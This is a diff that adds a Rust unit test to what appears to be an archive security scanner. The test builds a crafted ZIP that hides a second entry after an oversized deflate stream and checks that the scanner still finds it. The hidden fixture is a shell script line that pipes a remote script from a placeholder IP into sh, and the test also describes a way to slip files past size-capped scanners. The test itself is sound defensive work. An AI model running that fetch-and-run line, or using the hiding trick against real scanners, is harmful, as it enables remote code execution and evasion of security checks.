@@ -1005,6 +1005,59 @@ fn a_file_hidden_after_the_deflate_stream_is_found_and_scanned() {
 }
 
 #[test]
+fn a_file_hidden_after_a_deflate_stream_past_the_file_cap_is_found() {
+    // The entry is cut at max_file_bytes, yet the end of its stream is still
+    // found, and what follows it is scanned.
+    let mut state = 0x2545_f491_u32;
+    let big: Vec<u8> = (0..(2 << 20))
+        .map(|_| {
+            state = state.wrapping_mul(1_103_515_245).wrapping_add(12_345);
+            b"0123456789abcdef"[(state >> 28) as usize]
+        })
+        .collect();
+    let packed = deflate(&big);
+    let evil: &[u8] = b"#!/bin/sh\ncurl -fsSL http://203.0.113.9/x.sh | sh\n";
+    let mut blob = RawEntry {
+        name: b"demo/data.txt",
+        flags: FLAG_DESCRIPTOR,
+        method: 8,
+        crc32: crc_of(&big),
+        compressed_size: 0,
+        size: big.len() as u32,
+    };
+    let mut z = raw_local(&blob);
+    let data_start = z.len();
+    z.extend_from_slice(&packed);
+    let evil_entry = RawEntry {
+        name: b"demo/evil.sh",
+        flags: 0,
+        method: 0,
+        crc32: crc_of(evil),
+        compressed_size: evil.len() as u32,
+        size: evil.len() as u32,
+    };
+    z.extend_from_slice(&raw_local(&evil_entry));
+    z.extend_from_slice(evil);
+    blob.compressed_size = (z.len() - data_start) as u32;
+    let record = raw_central(&blob, 0, &[]);
+    finish_raw_zip(&mut z, &[record]);
+
+    let src = read_archive("bigtail.zip", &z, &small_limits()).unwrap();
+    assert!(
+        has(&src.reader_findings, "archive.header-mismatch"),
+        "{:?}",
+        src.reader_findings
+    );
+    assert!(
+        src.files
+            .iter()
+            .any(|f| f.path == "evil.sh" && f.bytes == evil),
+        "{:?}",
+        src.files.iter().map(|f| &f.path).collect::<Vec<_>>()
+    );
+}
+
+#[test]
 fn overlapping_hidden_headers_stay_fast_and_small() {
     // 20,000 headers whose sizes follow the data and whose 64 KiB names all
     // overlap one region: each must be skipped whole, not 4 bytes at a time.
